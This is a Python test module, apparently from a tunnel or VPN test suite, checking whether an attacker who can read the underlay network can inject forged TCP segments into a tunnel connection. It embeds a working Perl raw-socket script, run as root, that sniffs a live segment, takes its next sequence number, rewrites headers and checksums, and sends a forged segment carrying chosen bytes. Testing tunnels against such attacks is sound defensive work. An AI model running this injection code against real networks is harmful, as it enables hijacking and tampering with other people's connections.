"""Forged TCP segments: what an attacker who reads the underlay can put into the connection of a tunnel.

They carry the next sequence number of a segment that was seen a moment before, so that the attacked host's TCP takes
them. No code of the program's own injection test is used.
"""

from __future__ import annotations

from app.domain.adapters import shell_step_argv
from app.domain.cancel import CancelToken
from app.domain.commands import Command, HostSession
from app.probes.capture.pcap import parse_pcap
from support.made_up_capture import received

MARK = b"@segment@"
_ETHERTYPE = 0x88B6  # for local experiments. Source: IEEE 802-2014 section 9.2.3

# $1 interface, $2 own underlay address, $3 that of the attacked host, $4 what is put in (hex), $5 an address inside.
_SEND = r"""
ping -n -q -c 200 -i 0.1 -w 30 "$5" > /dev/null 2>&1 &
pinging=$!
perl -MSocket -e '
    my ($device, $own, $victim, $body) = ($ARGV[0], inet_aton($ARGV[1]), inet_aton($ARGV[2]), pack("H*", $ARGV[3]));
    alarm 30;
    socket(S, 17, SOCK_RAW, unpack("S", pack("n", 3))) or die "socket: $!\n";
    open(F, "<", "/sys/class/net/$device/ifindex") or die "$device: $!\n";
    my $where = pack("S n l S C C a8", 17, 3, scalar(<F>), 0, 0, 0, "");
    bind(S, $where) or die "bind: $!\n";
    sub sum { my $n = 0; $n += $_ for unpack("n*", $_[0]); $n = ($n >> 16) + ($n & 65535) while $n >> 16; ~$n & 65535 }
    while (defined(recv(S, my $frame, 65535, 0))) {
        next if length($frame) < 54 || substr($frame, 12, 2) ne "\x08\0" || substr($frame, 23, 1) ne "\6";
        next if substr($frame, 26, 8) ne $own . $victim;
        my $start = 14 + 4 * (ord(substr($frame, 14, 1)) & 15);
        my $end = $start + 4 * (ord(substr($frame, $start + 12, 1)) >> 4);
        my $length = 14 + unpack("n", substr($frame, 16, 2)) - $end;
        next if $length <= 0;
        my $head = substr($frame, 0, $end);
        substr($head, 16, 2) = pack("n", $end - 14 + length($body));
        substr($head, 24, 2) = "\0\0";
        substr($head, 24, 2) = pack("n", sum(substr($head, 14, $start - 14)));
        substr($head, $start + 4, 4) = pack("N", unpack("N", substr($frame, $start + 4, 4)) + $length & 0xffffffff);
        substr($head, $start + 16, 2) = "\0\0";
        my $tcp = substr($head, $start) . $body;
        my $sum = sum($own . $victim . pack("n n", 6, length($tcp)) . $tcp . (length($tcp) % 2 ? "\0" : ""));
        substr($head, $start + 16, 2) = pack("n", $sum);
        defined(send(S, $head . $body, 0, $where)) or die "send: $!\n";
        exit 0;
    }
' "$1" "$2" "$3" "$4" || { echo "no segment was seen, or none sent" >&2; exit 1; }
sleep 0.5
kill "$pinging" 2> /dev/null || :
"""


def forged_frame() -> bytes:
    """Return a plain Ethernet frame with the mark in it."""
    return b"\xff" * 6 + bytes.fromhex("020000000077") + _ETHERTYPE.to_bytes(2) + (MARK * 6).ljust(60, b".")


def put_in(
    attacker: HostSession, victim: HostSession, underlay: tuple[str, str], inside: str, interface: str, body: bytes
) -> int:
    """Put bytes into the connection of a tunnel; return how many forged frames came out of it.

    Args:
        attacker: The host that sends: the victim's peer, with the peer's address.
        victim: The host that is attacked.
        underlay: Underlay address of the attacker, and of the victim.
        inside: The victim's address inside the tunnel.
        interface: What the tunnel delivers to on the victim.
        body: What a segment carries.
    """

    def send() -> None:
        words = "eth1", *underlay, body.hex(), inside
        command = Command(shell_step_argv(_SEND, *words), timeout_s=120.0, is_root=True)
        result = attacker.run(command, token=CancelToken())
        assert result.is_ok, result.stderr

    capture = parse_pcap(received(victim, interface, f"ether proto {_ETHERTYPE}", send))
    return sum(MARK in record.data for record in capture)
